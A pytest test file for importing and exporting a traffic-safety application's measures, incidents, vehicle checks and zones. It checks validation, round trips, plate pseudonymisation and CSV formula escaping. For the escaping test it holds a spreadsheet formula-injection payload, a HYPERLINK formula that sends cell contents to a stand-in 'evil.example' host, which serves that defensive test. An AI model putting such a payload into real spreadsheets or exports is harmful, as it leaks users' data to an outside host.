"""Import and export of measures, incidents, checks and zones, on SQLite and on PostGIS.

Every database test gets FRESH databases (a new SQLite file, or a clone of a migrated PostGIS
template), writes real files to ``tmp_path`` and reads them back through ``traffic.io``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pyogrio
import pytest
import shapely
import sqlalchemy as sa
from shapely.geometry import LinearRing, shape
from sqlalchemy import Engine, func, select
from sqlalchemy.engine import make_url
from sqlalchemy.orm import Session

from tests.builders import SECRET, make_operation, point
from tests.conftest import DEFAULT_PG_URL, PG_URL_ENV, create_postgis_database, missing_service
from traffic.actors import Actor
from traffic.audit.hook import install_audit
from traffic.audit.models import AuditEvent
from traffic.checks.models import VehicleCheck
from traffic.errors import ValidationFailed
from traffic.incidents.models import Incident
from traffic.io import (
    EXPORT_FORMATS,
    KINDS,
    SPECS,
    ImportFileError,
    ImportReport,
    csv_header,
    export,
    import_file,
    read_file,
)
from traffic.io.cells import FLOAT, INT, TEXT, csv_cell, escape_formula, unescape_formula
from traffic.io.kinds import ORG, PSEUDONYM
from traffic.measures.models import SafetyMeasure
from traffic.measures.schemas import MeasureCreate
from traffic.measures.service import create_measure
from traffic.orgs.service import ensure_organisations
from traffic.pseudonym import vehicle_pseudonym
from traffic.records import soft_delete
from traffic.storage.db import make_engine, session_factory, unit_of_work
from traffic.storage.migrate import upgrade
from traffic.zones.models import Zone

SHARED_ZONES = Path("/work/shared/data/mjolby_resecentrum_zone.geojson")
OPERATION_ID = uuid.UUID("0b5e6c1e-7a52-4c43-9d0a-1b2c3d4e5f60")
SUFFIX = {"geojson": "geojson", "gpkg": "gpkg", "csv": "csv"}
MODELS = {"measures": SafetyMeasure, "incidents": Incident, "checks": VehicleCheck, "zones": Zone}


# --- fresh databases --------------------------------------------------------------------


@dataclass
class Db:
    """A fresh, migrated database with its own engine."""

    url: str
    engine: Engine

    @contextmanager
    def tx(self, **info: Any) -> Iterator[Session]:
        with unit_of_work(session_factory(self.engine), **info) as session:
            yield session

    def count(self, model: Any) -> int:
        with self.tx() as s:
            return s.scalar(select(func.count()).select_from(model).where(model.deleted_at.is_(None)))


class PgClones:
    """Fresh PostGIS databases cloned from one migrated template, dropped at the end of the run.

    Cloning takes milliseconds; DROP DATABASE forces a checkpoint, so the drops are batched.
    """

    def __init__(self, template: str) -> None:
        self.template = make_url(template)
        self.admin = sa.create_engine(self.template.set(database="postgres"), isolation_level="AUTOCOMMIT")
        self.names: list[str] = []

    def clone(self) -> str:
        name = f"{self.template.database}_c{len(self.names)}"
        with self.admin.connect() as conn:
            conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
            conn.execute(sa.text(f'CREATE DATABASE "{name}" TEMPLATE "{self.template.database}"'))
        self.names.append(name)
        return self.template.set(database=name).render_as_string(hide_password=False)

    def drop(self, name: str) -> None:
        with self.admin.connect() as conn:
            conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))

    def drop_all(self) -> None:
        # Concurrent drops share their checkpoints: seconds instead of half a second each.
        with ThreadPoolExecutor(max_workers=8) as pool:
            list(pool.map(self.drop, self.names))
        self.admin.dispose()


@pytest.fixture(scope="session")
def pg_clones() -> Iterator[PgClones]:
    """A migrated PostGIS template database to clone fresh databases from."""
    base = os.environ.get(PG_URL_ENV, DEFAULT_PG_URL)
    try:
        url = create_postgis_database(base, suffix="_io_tmpl")
    except Exception as exc:  # noqa: BLE001 - any connection failure means "no service"
        missing_service(f"PostgreSQL + PostGIS not reachable at {base}: {exc!r}")
    upgrade(url)
    clones = PgClones(url)
    yield clones
    clones.drop_all()


@pytest.fixture(params=["sqlite", "postgis"])
def fresh(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Callable[[], Db]]:
    """A factory of fresh migrated databases of one backend."""
    made: list[Db] = []
    clones = request.getfixturevalue("pg_clones") if request.param == "postgis" else None
    install_audit()

    def make() -> Db:
        if clones is None:
            url = f"sqlite:///{tmp_path / f'db{len(made)}.sqlite'}"
            upgrade(url)
        else:
            url = clones.clone()
        db = Db(url, make_engine(url))
        with db.tx() as s:
            ensure_organisations(s)
        made.append(db)
        return db

    yield make
    for db in made:
        db.engine.dispose()


def importer(session: Session, org: str = "mjolby_kommun") -> Actor:
    """The CLI's import actor: the system, attributed as cli-import, in ``org``."""
    orgs = ensure_organisations(session)
    actor = Actor(username="cli-import", role="admin", org_id=orgs[org].id)
    session.info["actor"] = actor
    return actor


def run_import(
    db: Db,
    kind: str,
    path: Path,
    *,
    partial: bool = False,
    fmt: str = "auto",
    org: str = "mjolby_kommun",
) -> ImportReport:
    with db.tx() as s:
        return import_file(
            s,
            kind,
            path,
            actor=importer(s, org),
            fmt=fmt,
            partial=partial,
            pseudonym_secret=SECRET,
        )


def write_csv(
    path: Path,
    header: list[str],
    rows: list[list[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    newline: str = "\r\n",
) -> Path:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8-sig" if bom else "utf-8", newline="")
    return path


def write_geojson(path: Path, features: list[dict[str, Any]]) -> Path:
    path.write_text(
        json.dumps({"type": "FeatureCollection", "features": features}, indent=1, ensure_ascii=False),
        encoding="utf-8",
    )
    return path


# --- builders ----------------------------------------------------------------------------

MEASURE_HEADER = ["title", "kind", "status", "lon", "lat", "proposed_on", "cost_sek"]


def five_measures(bad_kind: str = "GUPPIS") -> list[list[Any]]:
    return [
        ["Gupp Järnvägsgatan", "SPEED_HUMP", "PROPOSED", 15.1335, 58.3235, "2025-02-01", 45000],
        ["Belysning gångtunneln", "LIGHTING", "PLANNED", 15.1301, 58.3221, "2025-01-10", ""],
        ["Hastighetsdisplay Kungsvägen", bad_kind, "PROPOSED", 15.1282, 58.3262, "", ""],
        ["Avsmalning Magasinsgatan", "NARROWING", "", 15.1355, 58.3219, "", 120000],
        ["Övergångsställe Östra Kungsvägen", "CROSSING", "PROPOSED", 15.1388, 58.3247, "", ""],
    ]


def square(x0: float, y0: float, x1: float, y1: float, *, cw: bool = False) -> list[list[float]]:
    ring = [[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]
    return ring[::-1] if cw else ring


def polygon_with_hole(cw: bool = True) -> dict[str, Any]:
    """A polygon around the station (outer ring clockwise when ``cw``) with a hole."""
    return {
        "type": "Polygon",
        "coordinates": [
            square(15.12512345, 58.31812345, 15.14087654, 58.32787654, cw=cw),
            square(15.13, 58.321, 15.133, 58.324, cw=not cw),
        ],
    }


def _resecentrum_zones() -> list[dict[str, Any]]:
    features = json.loads(SHARED_ZONES.read_text())["features"]
    return [
        {
            "code": f"resecentrum_{r}m",
            "name": f"Resecentrum {r} m",
            "kind": "RESECENTRUM",
            "geometry": f["geometry"],
            "weekly_target_hours": 20.5,
        }
        for f in features
        if (r := f["properties"].get("radius_m"))
    ]


T0 = datetime(2025, 5, 16, 19, 30, tzinfo=UTC)
CHECK = {"operation_id": OPERATION_ID, "checked_at": T0, "geometry": point(15.131987, 58.322982)}
LINE = {"type": "LineString", "coordinates": [[15.125, 58.32], [15.1301234, 58.3245]]}
# Per kind: varied live records, then one that is soft-deleted (and must never be exported).
# fmt: off
SEED: dict[str, Callable[[], list[dict[str, Any]]]] = {
    "measures": lambda: [
        {"title": '=HYPERLINK("http://x.example/?a=1;b";"Klicka")', "kind": "SPEED_HUMP",
         "geometry": point(15.1335, 58.3235), "cost_sek": 45000,
         "description": 'Rad 1\nrad 2; "citat" – åäö'},
        {"title": "Cykelbana Vasagatan", "kind": "CYCLE_PATH", "status": "COMPLETED",
         "geometry": LINE, "proposed_on": date(2024, 3, 1), "planned_on": date(2024, 4, 1),
         "started_on": date(2024, 5, 1), "completed_on": date(2024, 9, 30), "org": "trafikverket"},
        {"title": "-5 km/h i området", "kind": "LOCAL_REGULATION", "geometry": polygon_with_hole()},
        {"title": "Borttagen", "kind": "OTHER", "geometry": point(15.13, 58.32)},
    ],
    "incidents": lambda: [
        {"kind": "CRASH", "occurred_at": datetime(2025, 3, 4, 7, 15, 30, tzinfo=UTC),
         "geometry": point(15.1291, 58.3251), "source": "STRADA", "severity": "LIGHT",
         "description": "Cykel mot bil"},
        {"kind": "A_TRAKTOR_DISTURBANCE", "source": "CITIZEN_DIALOGUE",
         "occurred_at": datetime(2025, 6, 14, 21, 5, 0, 123000, tzinfo=UTC),
         "geometry": point(15.13211, 58.32301), "description": "@midnatt: höga ljud"},
        {"kind": "OTHER", "source": "POLICE", "occurred_at": T0, "geometry": point(15.13, 58.32)},
    ],
    "checks": lambda: [
        {**CHECK, "vehicle_type": "CAR"},
        {**CHECK, "checked_at": T0.replace(minute=41), "vehicle_type": "A_TRAKTOR",
         "findings": ["LGF", "SPEED_LIMITER_TAMPERING"], "outcomes": ["ORDNINGSBOT", "BESLAG"],
         "fine_amount_sek": 1500, "limiter_tampered": True, "lgf_sign_ok": False,
         "rear_space_blocked": True, "passengers": 2, "measured_speed_kmh": 52.5,
         "speed_limit_kmh": 30, "speed_method": "EFTERFOLJANDE", "plate": "ABC 123",
         "note": "-flera anmärkningar"},
        {**CHECK, "vehicle_type": "MC"},
    ],
    "zones": lambda: [
        *_resecentrum_zones(),
        {"code": "skola-1", "name": "Skolområde Ömmestorp", "kind": "SCHOOL",
         "geometry": polygon_with_hole(), "description": "+ trafikvärdar"},
        {"code": "old", "name": "Gammal", "kind": "CUSTOM",
         "geometry": {"type": "Polygon", "coordinates": [square(15.12, 58.31, 15.121, 58.311)]}},
    ],
}
# fmt: on


def seed(db: Db, kind: str) -> int:
    """The SEED records of ``kind`` through its service; returns how many are live."""
    spec = SPECS[kind]
    with db.tx() as s:
        orgs = ensure_organisations(s)
        if kind == "checks":
            make_operation(s, id=OPERATION_ID)
        actor = importer(s)
        records = []
        for row in SEED[kind]():
            if "org" in row:
                row["org_id"] = orgs[row.pop("org")].id
            records.append(spec.create(s, actor, spec.schema(**row), SECRET))
        soft_delete(records[-1])
    return len(records) - 1


def with_operation(db: Db) -> None:
    """The operation the seeded checks belong to, with the same id."""
    with db.tx() as s:
        make_operation(s, id=OPERATION_ID, status="COMPLETED")


def rounded(geom: Any) -> str:
    return shapely.transform(geom, lambda c: np.round(c, 6)).normalize().wkt


def keys(db: Db, kind: str) -> set[tuple[Any, ...]]:
    """The exported columns of every live record, with its id and rounded geometry."""
    spec = SPECS[kind]
    with db.tx() as s:
        codes = {o.id: o.code for o in ensure_organisations(s).values()}
        out = set()
        for r in s.scalars(select(spec.model).where(spec.model.deleted_at.is_(None))):
            values = [codes[r.org_id] if c == ORG else getattr(r, c) for c in spec.columns]
            out.add(
                (
                    str(r.id),
                    *(tuple(v) if isinstance(v, list) else v for v in values),
                    rounded(r.geom),
                )
            )
        return out


# --- all or nothing ------------------------------------------------------------------------


def test_csv_with_one_bad_row_stores_nothing_and_names_row_field_and_codes(fresh, tmp_path):
    db = fresh()
    path = write_csv(tmp_path / "measures.csv", MEASURE_HEADER, five_measures())
    report = run_import(db, "measures", path)
    assert report.accepted == 0 and report.total == 5 and report.rejected_rows == 1
    [line] = report.lines()
    assert line.startswith("row 3 (line 4): kind: unknown code 'GUPPIS'; valid codes are: ")
    assert "SPEED_HUMP" in line and "CROSSING" in line
    assert "nothing stored" in report.summary()
    assert db.count(SafetyMeasure) == 0


def test_partial_keeps_the_four_good_rows(fresh, tmp_path):
    db = fresh()
    path = write_csv(tmp_path / "measures.csv", MEASURE_HEADER, five_measures())
    report = run_import(db, "measures", path, partial=True)
    assert report.accepted == 4 and report.rejected_rows == 1
    assert db.count(SafetyMeasure) == 4
    with db.tx() as s:
        titles = set(s.scalars(select(SafetyMeasure.title)))
        audit = set(s.scalars(select(AuditEvent.username).where(AuditEvent.entity == "safety_measures")))
    assert "Hastighetsdisplay Kungsvägen" not in titles and len(titles) == 4
    assert audit == {"cli-import"}


def test_every_bad_row_is_reported_not_just_the_first(fresh, tmp_path):
    db = fresh()
    rows = five_measures()
    rows[0][3], rows[0][4] = "", ""  # no geometry at all
    rows[4][6] = "tolv"  # not a number
    report = run_import(db, "measures", write_csv(tmp_path / "m.csv", MEASURE_HEADER, rows))
    assert [(r.row, r.line, r.field) for r in report.rejected] == [
        (1, 2, "geometry"),
        (3, 4, "kind"),
        (5, 6, "cost_sek"),
    ]
    assert "expected a whole number, got 'tolv'" in report.lines()[-1]
    assert db.count(SafetyMeasure) == 0


OP = str(OPERATION_ID)
CHECK_COLUMNS = ["operation_id", "checked_at", "vehicle_type"]
# case: (kind, header, the one bad row, field named in the report, part of its message)
# fmt: off
BAD_ROWS = {
    "swapped lat/lon": (
        "incidents", ["kind", "occurred_at", "source", "lat", "lon"],
        ["CRASH", "2025-03-04 08:15", "POLICE", 15.131987, 58.322982],
        "lon/lat", "latitude and longitude swapped?",
    ),
    "point in the Baltic": (
        "incidents", ["kind", "occurred_at", "source", "lon", "lat"],
        ["NEAR_MISS", "2025-03-04T08:15:00+01:00", "POLICE", 19.8, 57.3],
        "lon/lat", "outside the operating area",
    ),
    "self-intersecting polygon": (
        "zones", ["code", "name", "kind", "wkt"],
        ["fluga", "Fluga", "CUSTOM",
         "POLYGON ((15.12 58.31, 15.14 58.33, 15.14 58.31, 15.12 58.33, 15.12 58.31))"],
        "wkt", "Self-intersection",
    ),
    "unknown outcome code": (
        "checks", [*CHECK_COLUMNS, "outcomes", "lon", "lat"],
        [OP, "2025-05-16 21:30", "CAR", "VARNING|BOT", 15.132, 58.323],
        "outcomes[0]", "unknown code 'VARNING'; valid codes are: ",
    ),
    "end before start": (
        "measures", ["title", "kind", "status", "started_on", "completed_on", "lon", "lat"],
        ["Gupp", "SPEED_HUMP", "COMPLETED", "2025-05-01", "2025-03-01", 15.1335, 58.3235],
        "completed_on", "2025-03-01 is before started_on 2025-05-01",
    ),
    "boolean that is not one": (
        "checks", [*CHECK_COLUMNS, "limiter_tampered", "lon", "lat"],
        [OP, "2025-05-16 21:30", "A_TRAKTOR", "kanske", 15.132, 58.323],
        "limiter_tampered", "expected true/false, ja/nej or 1/0, got 'kanske'",
    ),
    "A-traktor field on a car": (
        "checks", [*CHECK_COLUMNS, "lgf_sign_ok", "lon", "lat"],
        [OP, "2025-05-16 21:30", "CAR", "nej", 15.132, 58.323],
        "lgf_sign_ok", "only for A-traktor or EPA checks, not CAR",
    ),
    "time that is no time": (
        "incidents", ["kind", "occurred_at", "source", "lon", "lat"],
        ["CRASH", "igår kväll", "POLICE", 15.132, 58.323],
        "occurred_at", "Input should be a valid datetime",
    ),
    "unknown operation": (
        "checks", [*CHECK_COLUMNS, "lon", "lat"],
        [str(uuid.UUID(int=7)), "2025-05-16 21:30", "CAR", 15.132, 58.323],
        "operation_id", "not found",
    ),
}
# fmt: on


@pytest.mark.parametrize("case", list(BAD_ROWS), ids=list(BAD_ROWS))
def test_bad_row_of_each_flavour_is_reported_with_its_field(fresh, tmp_path, case):
    kind, header, bad, field, message = BAD_ROWS[case]
    db = fresh()
    if kind == "checks":
        with_operation(db)
    path = write_csv(tmp_path / f"{kind}.csv", header, [bad])
    report = run_import(db, kind, path, partial=True)
    assert report.accepted == 0
    [rejection] = report.rejected
    assert (rejection.row, rejection.line, rejection.field) == (1, 2, field)
    assert message in rejection.message
    assert db.count(MODELS[kind]) == 0


def test_geojson_point_in_the_sea_names_geometry_and_feature_line(fresh, tmp_path):
    db = fresh()
    feats = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [15.1291, 58.3251]},
            "properties": {
                "kind": "CRASH",
                "occurred_at": "2025-03-04T07:15:00Z",
                "source": "POLICE",
            },
        },
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [20.0, 57.0]},
            "properties": {
                "kind": "CRASH",
                "occurred_at": "2025-03-04T07:15:00Z",
                "source": "POLICE",
            },
        },
    ]
    path = write_geojson(tmp_path / "inc.geojson", feats)
    report = run_import(db, "incidents", path)
    [r] = report.rejected
    text = path.read_text().splitlines()
    assert (r.row, r.field) == (2, "geometry") and "outside the operating area" in r.message
    assert text[r.line - 1].strip() == "{" and "20.0" in "".join(text[r.line - 1 : r.line + 8])
    assert db.count(Incident) == 0


# --- reading -----------------------------------------------------------------------------


@pytest.mark.parametrize(("delimiter", "bom", "newline"), [(";", True, "\r\n"), (",", False, "\n")])
def test_csv_dialects_with_swedish_characters(fresh, tmp_path, delimiter, bom, newline):
    db = fresh()
    header = ["Title", "kind", "lon", "lat", "cost_sek", "description", "org"]
    rows = [
        [
            "Övergångsställe vid Åsvägen – hög fart",
            "CROSSING",
            "15,1335",
            "58,3235",
            "12 000",
            'Förslag från medborgardialog; "farligt"',
            "bostadsbolaget",
        ]
    ]
    path = write_csv(tmp_path / "m.csv", header, rows, delimiter=delimiter, bom=bom, newline=newline)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") is bom
    report = run_import(db, "measures", path)
    assert report.ok and report.accepted == 1
    with db.tx() as s:
        m = s.scalars(select(SafetyMeasure)).one()
        orgs = ensure_organisations(s)
    assert m.title == "Övergångsställe vid Åsvägen – hög fart"
    assert m.description == 'Förslag från medborgardialog; "farligt"'
    assert m.cost_sek == 12000 and m.org_id == orgs["bostadsbolaget"].id
    assert (m.geom.x, m.geom.y) == (15.1335, 58.3235)


def test_check_cells_booleans_lists_local_time_and_plate(fresh, tmp_path):
    db = fresh()
    with_operation(db)
    header = [
        "operation_id",
        "checked_at",
        "vehicle_type",
        "findings",
        "outcomes",
        "fine_amount_sek",
        "limiter_tampered",
        "lgf_sign_ok",
        "rear_space_blocked",
        "measured_speed_kmh",
        "speed_method",
        "plate",
        "lon",
        "lat",
    ]
    rows = [
        [
            str(OPERATION_ID),
            "2025-05-16 21:30",
            "A_TRAKTOR",
            "LGF | SPEED_LIMITER_TAMPERING",
            "ORDNINGSBOT|BESLAG",
            "1 500",
            "ja",
            "NEJ",
            "1",
            "52,5",
            "EFTERFOLJANDE",
            "ABC 123",
            "15,131987",
            "58,322982",
        ],
        [
            str(OPERATION_ID),
            "2025-05-16T21:45:00+02:00",
            "CAR",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "15.132",
            "58.323",
        ],
    ]
    report = run_import(db, "checks", write_csv(tmp_path / "c.csv", header, rows))
    assert report.ok, report.lines()
    with db.tx() as s:
        a, car = s.scalars(select(VehicleCheck).order_by(VehicleCheck.checked_at)).all()
        assert a.checked_at == datetime(2025, 5, 16, 19, 30, tzinfo=UTC)  # Stockholm wall time
        assert a.findings == ["LGF", "SPEED_LIMITER_TAMPERING"]
        assert a.outcomes == ["ORDNINGSBOT", "BESLAG"]
        assert (a.limiter_tampered, a.lgf_sign_ok, a.rear_space_blocked) == (True, False, True)
        assert a.fine_amount_sek == 1500 and a.measured_speed_kmh == 52.5
        assert a.vehicle_pseudonym == vehicle_pseudonym("ABC123", SECRET)
        assert car.outcomes == ["UTAN_ANMARKNING"] and car.vehicle_pseudonym is None


def test_file_level_problems_refuse_the_whole_file(tmp_path):
    bad_column = write_csv(tmp_path / "a.csv", ["titel", "kind", "lon", "lat"], [["x", "OTHER", 1, 2]])
    with pytest.raises(ImportFileError, match=r"unknown column\(s\) 'titel'.*valid columns: id, title"):
        read_file(bad_column, "measures")
    missing = write_csv(tmp_path / "b.csv", ["title", "lon", "lat"], [["x", 1, 2]])
    with pytest.raises(ImportFileError, match=r"missing required column\(s\) kind"):
        read_file(missing, "measures")
    no_geometry = write_csv(tmp_path / "c.csv", ["title", "kind"], [["x", "OTHER"]])
    with pytest.raises(ImportFileError, match="no geometry column"):
        read_file(no_geometry, "measures")
    cp1252 = tmp_path / "d.csv"
    cp1252.write_bytes("title;kind;lon;lat\nGupp på Storgatan;SPEED_HUMP;15.13;58.32\n".encode("cp1252"))
    with pytest.raises(ImportFileError, match="not UTF-8"):
        read_file(cp1252, "measures")
    feature = tmp_path / "e.geojson"
    feature.write_text(json.dumps({"type": "Feature", "geometry": None, "properties": {}}))
    with pytest.raises(ImportFileError, match="expected a GeoJSON FeatureCollection"):
        read_file(feature, "measures")
    sweref = tmp_path / "f.geojson"
    sweref.write_text(
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [],
                "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3006"}},
            }
        )
    )
    with pytest.raises(ImportFileError, match="must be WGS84"):
        read_file(sweref, "zones")
    with pytest.raises(ValidationFailed, match="valid formats are: auto, geojson, csv, gpkg"):
        read_file(sweref, "zones", fmt="xlsx")
    with pytest.raises(ValidationFailed, match="valid kinds are: checks, incidents"):
        read_file(sweref, "operations")


def test_geojson_line_numbers_point_at_each_feature():
    rows = read_file(SHARED_ZONES, "zones")
    lines = SHARED_ZONES.read_text().splitlines()
    starts = [i for i, text in enumerate(lines, start=1) if '"type": "Feature"' in text]
    assert [r.line for r in rows] == [n - 1 for n in starts]
    assert all(lines[r.line - 1].strip() == "{" for r in rows)


def test_zones_from_the_shared_resecentrum_polygons(fresh, tmp_path):
    db = fresh()
    source = json.loads(SHARED_ZONES.read_text())
    polygons = [f for f in source["features"] if f["geometry"]["type"] == "Polygon"]
    feats = [
        {
            "type": "Feature",
            "geometry": f["geometry"],
            "properties": {
                "code": f"rc_{f['properties']['radius_m']}",
                "name": f["properties"]["name"],
                "kind": "RESECENTRUM",
                "weekly_target_hours": 20 if f["properties"]["radius_m"] == 300 else None,
            },
        }
        for f in polygons
    ]
    report = run_import(db, "zones", write_geojson(tmp_path / "z.geojson", feats))
    assert report.ok and report.accepted == len(polygons) == 3
    with db.tx() as s:
        zones = {z.code: z for z in s.scalars(select(Zone))}
    for f in polygons:
        zone = zones[f"rc_{f['properties']['radius_m']}"]
        assert zone.geom.equals_exact(shape(f["geometry"]), 1e-9)
    assert zones["rc_300"].weekly_target_hours == 20.0 and zones["rc_150"].weekly_target_hours is None


def test_the_raw_shared_file_is_refused_with_clear_reasons(fresh):
    db = fresh()
    report = run_import(db, "zones", SHARED_ZONES)
    assert report.accepted == 0 and report.rejected_rows == 4
    lines = report.lines()
    assert any(line.startswith("row 2 (line ") and "radius_m: unknown property" in line for line in lines)
    assert any("id: Input should be a valid UUID" in line and "'zone_r150'" in line for line in lines)
    assert db.count(Zone) == 0


def test_importing_the_same_ids_twice_never_duplicates(fresh, tmp_path):
    db = fresh()
    n = seed(db, "measures")
    out = tmp_path / "m.geojson"
    with db.tx() as s:
        export(s, "measures", "geojson", out)
    report = run_import(db, "measures", out, partial=True)
    assert report.accepted == 0 and report.rejected_rows == n
    assert {r.field for r in report.rejected} == {"id"}
    assert all("already exists" in r.message for r in report.rejected)
    assert db.count(SafetyMeasure) == n


# --- export and round trip ---------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_export_then_import_into_a_fresh_database_gives_the_same_rows(fresh, tmp_path, kind):
    source = fresh()
    n = seed(source, kind)
    expected = keys(source, kind)
    assert len(expected) == n
    for fmt in EXPORT_FORMATS:
        out = tmp_path / f"{kind}.{SUFFIX[fmt]}"
        with source.tx() as s:
            assert export(s, kind, fmt, out) == n
        target = fresh()
        if kind == "checks":
            with_operation(target)
        report = run_import(target, kind, out)
        assert report.ok and report.accepted == n, (fmt, report.lines())
        assert keys(target, kind) == expected, fmt


def test_geojson_export_is_rfc7946_ccw_and_six_decimals(fresh, tmp_path):
    db = fresh()
    seed(db, "measures")
    out = tmp_path / "m.geojson"
    with db.tx() as s:
        export(s, "measures", "geojson", out)
    text = out.read_text(encoding="utf-8")
    doc = json.loads(text)
    assert doc["type"] == "FeatureCollection" and not text.startswith("\ufeff")
    [poly] = [f for f in doc["features"] if f["geometry"]["type"] == "Polygon"]
    outer, hole = poly["geometry"]["coordinates"]
    assert LinearRing(outer).is_ccw and not LinearRing(hole).is_ccw
    assert [15.125123, 58.318123] in outer and [15.140877, 58.327877] in outer
    numbers = re.findall(r"-?\d+\.(\d+)", json.dumps([f["geometry"] for f in doc["features"]]))
    assert numbers and max(len(d) for d in numbers) <= 6
    assert all(uuid.UUID(f["id"]) for f in doc["features"])
    assert set(doc["features"][0]["properties"]) == set(SPECS["measures"].columns)
    assert "Borttagen" not in text  # soft-deleted


def test_gpkg_export_layer_crs_and_types(fresh, tmp_path):
    db = fresh()
    seed(db, "checks")
    out = tmp_path / "c.gpkg"
    with db.tx() as s:
        export(s, "checks", "gpkg", out)
    info = pyogrio.read_info(out, layer="checks")
    assert info["crs"] == "EPSG:4326" and info["features"] == 2
    types = dict(zip(info["fields"], info["ogr_types"], strict=True))
    assert types["checked_at"] == "OFTDateTime" and types["passengers"] == "OFTInteger64"
    assert "plate" not in types and PSEUDONYM in types


def test_csv_export_is_excel_ready_and_formula_safe(fresh, tmp_path):
    db = fresh()
    titles = [
        '=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',
        "+46 13 123 45",
        "-5 km/h",
        "@SUM(1+1)",
        "'=redan skyddad",
        "''+två citat",
        "Vanlig titel, med komma",
    ]
    with db.tx() as s:
        actor = importer(s)
        for i, title in enumerate(titles):
            create_measure(
                s,
                actor=actor,
                data=MeasureCreate(
                    title=title,
                    kind="SIGNAGE",
                    cost_sek=1000 + i,
                    geometry={"type": "Point", "coordinates": [15.13 + i / 1000, 58.32]},
                ),
            )
    out = tmp_path / "m.csv"
    with db.tx() as s:
        export(s, "measures", "csv", out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert text.split("\r\n")[0] == ";".join(csv_header(SPECS["measures"]))
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r["title"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',
        "'+46 13 123 45",
        "'-5 km/h",
        "'@SUM(1+1)",
        "''=redan skyddad",
        "'''+två citat",
        "Vanlig titel, med komma",
    ]
    assert [r["cost_sek"] for r in rows] == [str(1000 + i) for i in range(len(titles))]
    assert rows[0]["wkt"] == "POINT (15.13 58.32)"
    target = fresh()
    report = run_import(target, "measures", out)
    assert report.ok
    with target.tx() as s:
        assert set(s.scalars(select(SafetyMeasure.title))) == set(titles)


def test_only_checks_carry_a_pseudonym_and_nothing_carries_a_plate(fresh, tmp_path):
    db = fresh()
    for kind in KINDS:
        seed(db, kind)
    for kind in KINDS:
        out = tmp_path / f"{kind}.csv"
        with db.tx() as s:
            export(s, kind, "csv", out)
        header = out.read_text(encoding="utf-8-sig").split("\r\n")[0].split(";")
        assert "plate" not in header
        assert (PSEUDONYM in header) is (kind == "checks")
    text = (tmp_path / "checks.csv").read_text(encoding="utf-8-sig")
    assert "ABC" not in text and vehicle_pseudonym("ABC123", SECRET) in text
    with db.tx() as s:
        reads = s.scalars(select(AuditEvent).where(AuditEvent.action == "read")).all()
    assert [(e.entity, e.purpose) for e in reads] == [("vehicle_checks", "export")]


# --- pieces ------------------------------------------------------------------------------


def test_formula_guard_cells():
    assert escape_formula("=1+1") == "'=1+1" and unescape_formula("'=1+1") == "=1+1"
    assert escape_formula("\tx") == "'\tx" and escape_formula("\rx") == "'\rx"
    assert escape_formula("'=x") == "''=x" and unescape_formula("''=x") == "'=x"
    assert escape_formula("''-x") == "'''-x" and unescape_formula("'''-x") == "''-x"
    assert escape_formula("'hej") == "'hej" and unescape_formula("'hej") == "'hej"
    assert csv_cell(-1.5, FLOAT) == "-1.5" and csv_cell(-3, INT) == "-3"
    assert csv_cell("-1.5", TEXT) == "'-1.5"
    assert csv_cell(True, "bool") == "true" and csv_cell(["A", "B"], "list") == "A|B"


def test_exported_columns_cover_every_create_field():
    for kind, spec in SPECS.items():
        fields = set(spec.schema.model_fields) - {"id", "geometry", "org_id", "plate"}
        assert fields == set(spec.columns) - {ORG, PSEUDONYM}, kind
        assert set(spec.columns) <= set(spec.types), kind


def test_columns_doc_names_every_column():
    doc = (Path(__file__).resolve().parents[2] / "traffic" / "io" / "COLUMNS.md").read_text()
    for kind, spec in SPECS.items():
        assert f"### {kind}" in doc
        for column in spec.columns:
            assert column in doc, (kind, column)
